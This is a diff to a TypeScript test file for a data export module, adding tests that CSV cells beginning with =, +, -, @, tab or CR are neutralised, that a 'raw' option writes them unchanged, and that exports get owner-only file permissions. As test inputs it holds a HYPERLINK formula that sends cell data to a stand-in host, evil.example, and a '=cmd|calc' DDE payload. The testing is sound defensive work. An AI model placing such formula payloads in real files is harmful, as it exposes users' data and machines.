@@ -1,10 +1,10 @@
-import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
+import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import ExcelJS from 'exceljs'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { ResultShaper } from '../../../../../common/query/result-set'
-import { csvField } from '../../../../../main/dataverse/export/csv'
+import { csvField, csvRecord } from '../../../../../main/dataverse/export/csv'
 import { createExportWriter } from '../../../../../main/dataverse/export/writer'
 import { parseCsv } from '../../../../support/parse-csv'
 
@@ -107,5 +107,39 @@ describe('export writers', () => {
       await writer.abort()
     }
     expect(await readdir(dir)).toEqual([])
+  })
+
+  it('L9 neutralises text cells that start with = + - @ tab or CR, and leaves numbers alone', () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?d="&B2,"Click")', 'Contoso', '+1-555', '@SUM(1+1)', '-2+3', '\t=1', '\r=1']
+    expect(csvRecord(hostile)).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Click"")",Contoso,'+1-555,'@SUM(1+1),'-2+3,'\t=1,"'\r=1"\r\n`)
+    expect(csvRecord([-2, 3.5, 0, null, true])).toBe('-2,3.5,0,,true\r\n')
+    expect(csvField('a=b')).toBe('a=b')
+  })
+
+  it('L9 writes formulas as they are when the caller opts out with csvFormulas raw', async () => {
+    expect(csvRecord(['=1+1', -1], 'raw')).toBe('=1+1,-1\r\n')
+    const shaper = new ResultShaper(['name'])
+    const page = shaper.shape([{ name: '=cmd|calc', accountid: 'a1' }])
+    for (const [formulas, expected] of [[undefined, "'=cmd|calc"], ['raw', '=cmd|calc']] as const) {
+      const path = join(dir, `formulas-${formulas ?? 'default'}.csv`)
+      const writer = createExportWriter('csv', path, { includeFormatted: false, ...(formulas ? { csvFormulas: formulas } : {}) })
+      await writer.writePage(page)
+      await writer.finish()
+      expect(parseCsv((await readFile(path, 'utf8')).slice(1))[1]?.[0]).toBe(expected)
+    }
+  })
+
+  // POSIX permission bits do not exist on Windows (stat reports 0o666 whatever was asked).
+  it.skipIf(process.platform === 'win32')('L10 writes every export format readable by its owner only', async () => {
+    for (const format of ['csv', 'json', 'ndjson', 'xlsx'] as const) {
+      const path = join(dir, `mode.${format}`)
+      const writer = createExportWriter(format, path)
+      for (const page of pages()) await writer.writePage(page)
+      await writer.finish()
+      expect((await stat(path)).mode & 0o777, format).toBe(0o600)
+    }
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.readFile(join(dir, 'mode.xlsx'))
+    expect(workbook.worksheets[0]?.rowCount).toBe(4)
   })
 })
